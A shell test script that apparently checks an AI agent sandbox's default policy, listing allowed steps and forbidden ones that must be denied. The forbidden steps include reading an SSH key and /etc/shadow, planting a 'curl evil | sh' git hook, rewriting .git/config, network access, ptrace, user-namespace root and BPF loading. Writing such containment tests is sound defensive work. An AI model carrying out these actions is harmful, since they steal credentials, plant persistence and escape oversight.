#!/bin/sh
# The agent of scripts/test-dist.sh, run under the stock default policy in a fresh Debian
# root: the enforcement steps of the demo agent (examples/demo-agent/agent.sh) that need
# no compiler. Each step prints "ok", "denied" (expected for forbidden steps), "FAILED" or
# "ESCAPED"; the exit status is the number of FAILED and ESCAPED steps.
failures=0
allowed() { # allowed "description" command...
  desc=$1; shift
  if out=$("$@" 2>&1); then printf '    allowed  %-44s ok\n' "$desc"
  else printf '    allowed  %-44s FAILED: %s\n' "$desc" "$(echo "$out" | tail -n1)"; failures=$((failures + 1)); fi
}
forbidden() { # forbidden "description" command...
  desc=$1; shift
  if out=$("$@" 2>&1); then printf '    forbid   %-44s ESCAPED\n' "$desc"; failures=$((failures + 1))
  else printf '    forbid   %-44s denied (%s)\n' "$desc" "$(echo "$out" | tail -n1 | cut -c1-50)"; fi
}

allowed "read the repository history"         git log --oneline -1
allowed "write a file in the workspace"       sh -c 'echo notes > notes.txt'
allowed "commit it"                           sh -c 'git add notes.txt && git -c user.name=agent -c user.email=agent@example.invalid commit -qm notes'
allowed "run python3"                         python3 -c 'print(sum(range(10)))'
allowed "child processes and pipes"           sh -c 'seq 1 100 | sort -n | tail -n1 | grep -q 100'
forbidden "read a fake SSH key in \$HOME/.ssh" cat "$HOME/.ssh/id_ed25519"
forbidden "read /etc/shadow"                  grep -q '^root:' /etc/shadow
forbidden "write outside the workspace"       sh -c 'echo evil > /usr/bin/evil'
forbidden "write .git/hooks/pre-commit"       sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
forbidden "rewrite .git/config"               sh -c 'echo "[core] fsmonitor = evil" >> .git/config'
forbidden "open a network connection"         timeout 10 python3 -c 'import socket; socket.create_connection(("1.1.1.1", 443), timeout=3)'
forbidden "ptrace another process"            python3 -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    import time; time.sleep(5); os._exit(0)
r = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
err = ctypes.get_errno(); os.kill(pid, 9)
sys.exit(f"ptrace: {os.strerror(err)}" if r != 0 else 0)'
forbidden "become root in a user namespace"   unshare -r true
forbidden "load a BPF program"                python3 -c '
import ctypes, os, platform, sys
libc = ctypes.CDLL(None, use_errno=True)
nr = {"x86_64": 321, "aarch64": 280}[platform.machine()]
r = libc.syscall(nr, 5, 0, 0)  # bpf(BPF_PROG_LOAD, NULL, 0)
sys.exit(f"bpf: {os.strerror(ctypes.get_errno())}" if r != 0 else 0)'
exit "$failures"
